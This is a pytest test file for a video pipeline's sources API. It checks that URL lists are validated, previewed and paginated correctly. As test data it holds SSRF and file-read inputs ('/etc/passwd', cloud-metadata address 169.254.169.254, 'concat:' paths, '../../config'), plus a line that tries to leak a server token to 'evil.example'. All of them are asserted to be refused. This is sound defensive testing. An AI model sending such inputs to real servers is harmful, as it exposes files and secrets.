"""Sources over the API: no file of this machine, and lists are shown as they are understood."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from starlette.testclient import TestClient

from vidpipe.library.library import Library
from vidpipe.settings import Settings
from vidpipe.sources.records import SourceRecord
from vidpipe.stages.registry import build_graph
from vidpipe.web.api.sources import SourcesBody
from vidpipe.web.app import create_app
from vidpipe.web.home import WebHome

SOURCES = "/api/v1/sources"


@pytest.fixture(scope="module")
def client(module_settings: Settings) -> Iterator[TestClient]:
    home = WebHome(lambda: module_settings)
    with Library.open(module_settings, build_graph(module_settings)) as library:
        for number in range(5):
            seen = datetime(2026, 1, 1, tzinfo=UTC) + timedelta(days=number // 2)
            state: Any = "failed" if number == 3 else "stored"
            library.sources.save(
                SourceRecord(id=f"s{number}", url=f"https://v.example/{number}.mp4", state=state, first_seen=seen)
            )
    yield TestClient(create_app(home), base_url="http://127.0.0.1:8000", client=("127.0.0.1", 5000))
    home.close()


def preview(client: TestClient, text: str | bytes, name: str = "") -> Any:
    return client.post(f"{SOURCES}/preview", content=text, params={"name": name}, headers={"Content-Type": "text/csv"})


@pytest.mark.parametrize(
    "url",
    [
        "/etc/passwd", "file:///etc/passwd", " FILE:///etc/passwd", "videos/a.mp4", "gopher://v.example/a.mp4", "",
        "http://127.0.0.1/a.mp4", "http://[::1]/a.mp4", "http://169.254.169.254/latest", "http://0x7f000001/a.mp4",
        "gopher://v.example", "https://", "concat:/etc/passwd",
    ],
)  # fmt: skip
def test_files_and_addresses_inside_are_refused(client: TestClient, url: str) -> None:
    refused = client.post(SOURCES, json={"inputs": [{"url": "https://v.example/a.mp4"}, {"url": url}]})
    assert refused.status_code == 422, refused.text
    assert refused.json()["detail"].startswith("Input 2: ")
    (row,) = preview(client, f"url\n{url or 'x'}\n").json()["rows"]
    assert row["error"]


def test_uploads_of_others_and_nothing_at_all_are_refused(client: TestClient) -> None:
    assert client.post(SOURCES, json={"uploads": ["../../config"]}).status_code == 404
    assert client.post(SOURCES, json={}).status_code == 422
    assert list(client.app.state.jobs) == []  # type: ignore[attr-defined]


def test_a_table_is_shown_as_it_is_understood(client: TestClient) -> None:
    table = (
        "\ufeffLink;Title;Tags;Owner\nhttps://v.example/a.mp4;Ärger;cats|dogs;me\n;;x;\nhttps://v.example/b.mp4;;;;9\n"
    )
    shown = preview(client, table, "list.csv").json()
    assert shown["columns"] == {"Link": "url", "Title": "title", "Tags": "labels", "Owner": "ignored"}
    assert (shown["total"], shown["errors"]) == (3, 2)
    good, empty, long = shown["rows"]
    assert (good["line"], good["url"], good["title"], good["labels"]) == (
        2, "https://v.example/a.mp4", "Ärger", ["cats", "dogs"],
    )  # fmt: skip
    assert empty["error"] == "the column Link is empty"
    assert (long["line"], long["error"].partition(" instead")[0]) == (4, "the row has 5 fields")


def test_parts_of_a_video_are_one_row_that_can_be_added(client: TestClient) -> None:
    table = "url,label,start,end,license\nhttps://v.example/a.mp4,run,0:00:01,2,CC0\nhttps://v.example/a.mp4,jump,3,,\n"
    shown = preview(client, table, "list.csv").json()
    meanings = {"url": "url", "label": "labels", "start": "start", "end": "end", "license": "licence"}
    assert shown["columns"] == meanings
    (row,) = shown["rows"]
    assert (row["labels"], row["licence"], row["error"]) == ([], "CC0", "")
    assert [(part["start_s"], part["end_s"], part["labels"]) for part in row["segments"]] == [
        (1.0, 2.0, ["run"]), (3.0, None, ["jump"]),
    ]  # fmt: skip
    parsed = SourcesBody.model_validate({"inputs": [row]}).inputs[0]
    assert [part.labels for part in parsed.segments] == [("run",), ("jump",)]


@pytest.mark.parametrize(
    ("text", "name", "urls"),
    [
        ("https://v.example/a.mp4\n# comment\nhttps://v.example/b.mp4 priority=5\n", "", ["a", "b"]),
        ("url\nhttps://v.example/a.mp4\n", "", ["a"]),
        ("url\nhttps://v.example/a.mp4\n", "list.txt", ["", "a"]),
        ("title\turl\nx\thttps://v.example/a.mp4\n".encode("utf-16"), "list.tsv", ["a"]),
    ],
)
def test_lists_are_recognized(client: TestClient, text: str | bytes, name: str, urls: list[str]) -> None:
    rows = preview(client, text, name).json()["rows"]
    found = [row["url"].removeprefix("https://v.example/").removesuffix(".mp4") for row in rows if not row["error"]]
    assert found == [url for url in urls if url]
    assert len(rows) == len(urls)


def test_lists_are_bounded_and_cannot_read_secrets_of_the_server(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("VIDPIPE_SOURCE_TOKEN", "hunter2")
    refused = preview(client, "url\nhttps://evil.example/${VIDPIPE_SOURCE_TOKEN}\n")
    assert refused.status_code == 422
    assert "hunter2" not in refused.text
    assert preview(client, b"x" * 5_000_001).status_code == 413
    assert preview(client, "https://v.example/a.mp4\n" * 10_001).status_code == 413
    assert preview(client, "#\n" * 30_001).status_code == 413
    assert preview(client, b"a\0b").status_code == 422
    assert preview(client, "name,title\na,b\n", "list.csv").status_code == 422


def test_sources_are_listed_latest_first(client: TestClient) -> None:
    first = client.get(SOURCES, params={"limit": 2}).json()
    second = client.get(SOURCES, params={"limit": 2, "after": first["next"]}).json()
    last = client.get(SOURCES, params={"limit": 2, "after": second["next"]}).json()
    assert [one["id"] for page in (first, second, last) for one in page["items"]] == ["s4", "s3", "s2", "s1", "s0"]
    assert last["next"] is None
    assert [one["id"] for one in client.get(SOURCES, params={"state": "failed"}).json()["items"]] == ["s3"]
    assert client.get(SOURCES, params={"state": "odd"}).status_code == 422
